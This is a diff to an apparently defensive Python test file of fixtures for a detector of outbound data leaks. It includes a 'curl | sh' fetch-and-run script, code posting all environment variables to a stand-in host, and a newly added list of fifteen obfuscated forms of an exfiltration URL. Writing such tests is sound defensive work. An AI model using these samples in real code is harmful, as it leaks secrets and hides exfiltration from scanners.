@@ -27,7 +27,7 @@ FETCHES = b"#!/bin/sh\ncurl -s https://a.example/x | sh\n"
 OWN_CODEC = b"# coding: own\nimport os\n"
 DATA = b"import os\nexec(open(os.path.join(os.path.dirname(__file__), 'notes.txt')).read())\n"
 WAITS = (
-    b"import os\nimport requests\nURL = 'https://a.example/in'\n"
+    b"import os\nimport requests\nHTTP, DOT = 'https://', '.'\nURL = 'https://a.example/in'\n"
     b"def tell():\n    requests.post(URL, json=dict(os.environ))\n"
 )
 """A client that sends everything to its own service, when it is asked to."""
@@ -177,6 +177,32 @@ REFUSED: dict[str, Callable[[World], str]] = {
             "anaddressmore": told(
                 b"['https://a.example/in', 'https://b.example/in'][os.getpid() % 2]"
             ),
+            # Beside an address that stood there one that is written in another way.
+            **{
+                f"decoy{number}": told(
+                    b"os.environ.get('A', 'https://a.example/in') or " + url,
+                    b"import codecs, socket, urllib.parse\n",
+                )
+                for number, url in enumerate(
+                    (
+                        b"'ni/elpmaxe.b//:sptth'[::-1]",
+                        b"''.join(reversed('ni/elpmaxe.b//:sptth'))",
+                        b"'https:##b.example#in'.replace('#', '/')",
+                        b"'%s://%s.%s' % ('https', 'b', 'example')",
+                        b"'{}://{}.{}'.format('https', 'b', 'example')",
+                        b"'.'.join(['https://b', 'example'])",
+                        b"bytes([104, 116, 116, 112, 58, 47, 47, 98, 46, 105, 111]).decode()",
+                        b"'uggcf://o.rknz'.translate(str.maketrans('ugcfork', 'htpsbex'))",
+                        b"bytes.fromhex('68747470733a2f2f622e696f').decode()",
+                        b"(0x687474703a2f2f622e696f).to_bytes(11, 'big').decode()",
+                        b"'see https://b.example/in now please'.split()[1]",
+                        b"HTTP + 'b' + DOT + 'example'",
+                        b"'http://' + socket.inet_ntoa(bytes([203, 0, 113, 9]))",
+                        b"urllib.parse.unquote('%68ttps:%2f%2fb.example')",
+                        b"codecs.decode('uggcf://o.rknzcyr', 'rot13')",
+                    )
+                )
+            },
             "anumber": told(b"'https://203.0.113.9/in'"),
             "decoded": told(
                 b"base64.b64decode('aHR0cHM6Ly9iLmV4YW1wbGUvaW4=').decode()", b"import base64\n"
